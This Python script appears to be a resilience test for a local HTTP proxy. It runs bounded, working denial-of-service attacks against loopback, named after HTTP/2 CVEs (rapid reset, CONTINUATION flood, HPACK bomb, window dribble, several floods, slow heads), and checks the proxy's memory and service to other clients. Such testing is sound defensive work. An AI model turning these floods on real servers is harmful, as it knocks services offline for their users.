"""Attacks on a proxy on loopback, with other people's framing (`hyperframe`, `hpack`).

    python attacks.py PORT PID

PID is the proxy's process. Each attack is bounded in count and time. While it runs, an innocent client
asks on a connection of its own. It fails when that client is not served, when a connection that must
end does not, when the proxy's memory grows, and when the proxy has ended. Then a request of at most
10 KiB is held open a hundred times over, and must not cost more than 1 MiB each.
"""

import os
import socket
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from innocent import Innocent

PORT, PID = int(sys.argv[1]), int(sys.argv[2])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FIELDS = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "app.example")]
# Seconds that others may wait on any machine; twice what they wait in calm, where that is more.
PATIENCE = float(os.environ.get("PATIENCE", "0.25"))
# Bytes by which the memory of the proxy may grow in an attack.
ROOM = 64 << 20
problems = []


def rss():
    for line in open(f"/proc/{PID}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise SystemExit("the proxy has ended")


def connect(settings=None):
    connection = socket.create_connection(("127.0.0.1", PORT), timeout=15)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection.sendall(PREFACE + SettingsFrame(settings=settings or {}).serialize())
    return connection


def whole(stream, block):
    frame = HeadersFrame(stream, block)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    return frame.serialize()


def headers(stream, fields=FIELDS, flags=("END_HEADERS", "END_STREAM"), encoder=None):
    frame = HeadersFrame(stream, (encoder or Encoder()).encode(fields, huffman=False))
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def post(stream):
    return headers(stream, [(":method", "POST")] + FIELDS[1:], ("END_HEADERS",))


def pour(connection, frames):
    """Sends frames, and throws away what comes. Whether the connection ended."""
    gone = threading.Event()

    def drain():
        try:
            while connection.recv(65536):
                pass
        except TimeoutError:
            return
        except OSError:
            pass
        gone.set()

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    try:
        batch = bytearray()
        for frame in frames:
            batch += frame
            if len(batch) > 16384:
                connection.sendall(batch)
                batch.clear()
        connection.sendall(batch)
    except OSError:
        gone.set()
    reader.join(20)
    return gone.is_set()


def attack(name, must_end, act):
    before, innocent = rss(), Innocent(PORT)
    ended = act()
    p99, grown = innocent.end(), rss() - before
    said = f"{name}: p99 of others {p99 * 1000:.1f} ms, {innocent.failures} failures, {grown >> 10} KiB"
    bad = []
    if must_end and not ended:
        bad.append("its connection did not end")
    if innocent.failures:
        bad.append("others were not served")
    if p99 > max(2 * calm, PATIENCE):
        bad.append("others waited")
    if grown > ROOM:
        bad.append("memory grew")
    print(("FAILED " if bad else "ok     ") + said, *bad, sep="; " if bad else "", flush=True)
    problems.extend(bad)


def rapid_reset():
    frames = (
        part
        for n in range(10_000)
        for part in (headers(2 * n + 1), RstStreamFrame(2 * n + 1, error_code=8).serialize())
    )
    return pour(connect(), frames)


def made_to_reset():
    frames = (
        part
        for n in range(10_000)
        for part in (headers(2 * n + 1), WindowUpdateFrame(2 * n + 1, window_increment=1).serialize()[:-4] + bytes(4))
    )
    return pour(connect(), frames)


def continuation():
    block = Encoder().encode(FIELDS)
    more = ContinuationFrame(1, Encoder().encode([("x", "y")])).serialize()
    return pour(connect(), [HeadersFrame(1, block).serialize()] + [more] * 10_000)


def same(frame, first=b""):
    return lambda: pour(connect(), [first] + [frame] * 10_000)


def bomb():
    # One large field in the table, and then only its number, over and over (CVE-2016-6581).
    encoder = Encoder()
    first = encoder.encode(FIELDS + [("x-bomb", "y" * 3_900)])
    again = bytes([0x80 | 62]) * 8_000
    frames = [whole(1, first)] + [whole(2 * n + 1, again) for n in range(1, 50)]
    pour(connect(), frames)
    return True


def zero_window():
    # 100 streams that may be sent nothing, each for 4 MiB (CVE-2019-9517 and slow reading).
    large = [field if field[0] != ":path" else (":path", "/large") for field in FIELDS]
    connection = connect({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    connection.sendall(b"".join(headers(2 * n + 1, large) for n in range(100)))
    time.sleep(5)
    connection.close()
    return True


def narrow_window():
    # The same with a byte for each: something of every answer is on its way.
    large = [field if field[0] != ":path" else (":path", "/large") for field in FIELDS]
    connection = connect({SettingsFrame.INITIAL_WINDOW_SIZE: 1})
    connection.sendall(b"".join(headers(2 * n + 1, large) for n in range(100)))
    time.sleep(5)
    connection.close()
    return True


def dribble():
    # The window is opened by a byte at a time (CVE-2019-9511).
    large = [field if field[0] != ":path" else (":path", "/large") for field in FIELDS]
    connection = connect({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    frames = [headers(1, large)] + [WindowUpdateFrame(1, window_increment=1).serialize()] * 20_000
    return pour(connection, frames)


def half_a_head():
    connection = connect()
    connection.sendall(headers(1)[:12])
    return pour(connection, [])


def half_a_preface():
    connection = socket.create_connection(("127.0.0.1", PORT), timeout=15)
    connection.sendall(PREFACE[:10])
    return pour(connection, [])


def slow_heads():
    lines = [socket.create_connection(("127.0.0.1", PORT), timeout=20) for _ in range(500)]
    for line in lines:
        line.sendall(b"GET / HTTP/1.1\r\nhost: a\r\n")
    ended = 0
    for line in lines:
        try:
            ended += line.recv(100).startswith(b"HTTP/1.1 408 ")
        except OSError:
            pass
        line.close()
    return ended == len(lines)


def costs(name, request):
    """Holds a hundred of these open, and looks at what each costs."""
    assert len(request) <= 10 * 1024, len(request)
    before = rss()
    lines, most = [], before
    for _ in range(100):
        line = socket.create_connection(("127.0.0.1", PORT), timeout=15)
        line.sendall(request)
        lines.append(line)
        most = max(most, rss())
    time.sleep(1)
    each = (max(most, rss()) - before) / len(lines)
    bad = each > 1 << 20
    print(f"{'FAILED' if bad else 'ok    '} {name}, {len(request)} bytes, costs {each / 1024:.0f} KiB", flush=True)
    if bad:
        problems.append(name)
    for line in lines:
        line.close()
    time.sleep(1)


warm = Innocent(PORT)
time.sleep(5)
calm = warm.end()
print(f"calm: p99 {calm * 1000:.1f} ms")
attack("rapid reset (CVE-2023-44487)", True, rapid_reset)
attack("made to reset (CVE-2025-8671)", True, made_to_reset)
attack("CONTINUATION flood (CVE-2024-27316)", True, continuation)
attack("SETTINGS flood (CVE-2019-9515)", True, same(SettingsFrame().serialize()))
attack("PING flood (CVE-2019-9512)", True, same(PingFrame(0, b"12345678").serialize()))
attack("RST flood (CVE-2019-9514)", True, same(RstStreamFrame(1).serialize(), headers(1)))
attack("empty DATA (CVE-2019-9518)", True, same(DataFrame(1).serialize(), post(1)))
attack("PRIORITY flood (CVE-2019-9513)", True, same(PriorityFrame(1, depends_on=3).serialize()))
attack("window dribble (CVE-2019-9511)", True, dribble)
attack("HPACK bomb (CVE-2016-6581)", False, bomb)
attack("zero windows (CVE-2019-9517)", False, zero_window)
attack("windows of a byte (CVE-2019-9517)", False, narrow_window)
attack("half a header block", True, half_a_head)
attack("half a preface", True, half_a_preface)
attack("500 slow heads", True, slow_heads)

begun = PREFACE + SettingsFrame().serialize()
field = ("x-large", "y" * 7_000)
costs("a large head", b"GET / HTTP/1.1\r\nhost: a\r\nx: " + b"y" * 8_000 + b"\r\n\r\n")
costs("an unfinished head", b"GET / HTTP/1.1\r\nhost: a\r\nx: " + b"y" * 8_000)
costs("200 requests at once", b"GET / HTTP/1.1\r\nhost: a\r\n\r\n" * 200)
costs("a body of tiny chunks", b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 1_600)
costs("a request for much that is not read", b"GET /large HTTP/1.1\r\nhost: a\r\n\r\n")
costs("a large head in HTTP/2", begun + headers(1, FIELDS + [field]))
costs("an unfinished block in HTTP/2", begun + headers(1, FIELDS + [field], ()))
encoder = Encoder()
opening = headers(1, FIELDS + [("x-bomb", "y" * 3_900)], encoder=encoder)
costs("an HPACK bomb", begun + opening + whole(3, bytes([0x80 | 62]) * 5_000))
if problems:
    sys.exit(f"{len(problems)} problems")
